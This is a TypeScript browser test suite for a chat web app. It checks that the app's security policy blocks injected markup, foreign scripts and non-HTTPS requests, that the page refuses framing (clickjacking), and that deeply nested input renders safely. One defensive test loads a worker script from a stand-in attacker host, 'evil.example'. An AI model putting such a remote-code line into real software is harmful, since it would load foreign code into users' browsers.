import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, it } from "vitest";
import { type Playground, startPlayground } from "./playground/site.ts";
import { ask, partsOf, visit } from "./playground/visitor.ts";

let playground: Playground;

beforeAll(async () => {
  playground = await startPlayground();
}, 120_000);
afterAll(() => playground[Symbol.asyncDispose]());

it("runs no scripts from texts, and requests only HTTPS hosts and this machine", async () => {
  await using visitor = await visit(playground);
  const { page } = visitor;
  await partsOf(page).file("README.md").waitFor();
  expect(visitor.complaints).toEqual([]);
  const outcomes = await page.evaluate(async () => {
    const refused: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) =>
      refused.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
    const attempts: Record<string, () => unknown> = {
      markup: () => (document.createElement("div").innerHTML = "<img src=x>"),
      foreign: () => new Worker("https://evil.example/worker.js"),
      data: () => new Worker("data:text/javascript,0"),
    };
    const passed = Object.keys(attempts).filter((name) => {
      try {
        attempts[name]?.();
        return true;
      } catch {
        return false;
      }
    });
    await fetch("http://192.0.2.1/").catch(() => undefined);
    // The loopback is allowed: what fails there is the connection.
    await fetch("http://127.0.0.1:9/").catch(() => undefined);
    return { passed, refused: refused.filter((violation) => violation.startsWith("connect-src")) };
  });
  expect(outcomes.passed).toEqual([]);
  expect(outcomes.refused).toEqual(["connect-src http://192.0.2.1/"]);
});

it("is not shown in a frame of another page, where clicks could be stolen", async () => {
  const frame = `<!doctype html><iframe src="${playground.url}"></iframe>`;
  const server = createServer((_request, response) =>
    response.setHeader("content-type", "text/html").end(frame),
  );
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  try {
    await using visitor = await visit(playground);
    const refused = visitor.page.waitForEvent("console", (message) =>
      message.text().includes("frame-ancestors 'none'"),
    );
    await visitor.page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    await refused;
    const [, framed] = visitor.page.frames();
    expect(await framed?.locator("#root").count()).toBe(0);
  } finally {
    server.closeAllConnections();
    server.close();
  }
});

it("shows a text that is nested too deeply as it was written, and continues", async () => {
  await using visitor = await visit(playground);
  const { page } = visitor;
  const { conversation, turns } = partsOf(page);
  const texts = conversation.locator("[data-part=text]");
  for (const deep of [">".repeat(5_000), "> ".repeat(200), "*a_".repeat(5_000)]) {
    await ask(page, `ask me ${deep}: yes|no`);
    expect(await texts.last().textContent()).toContain(deep.trim());
  }
  await ask(page, "help");
  expect(await turns.count()).toBe(4);
});
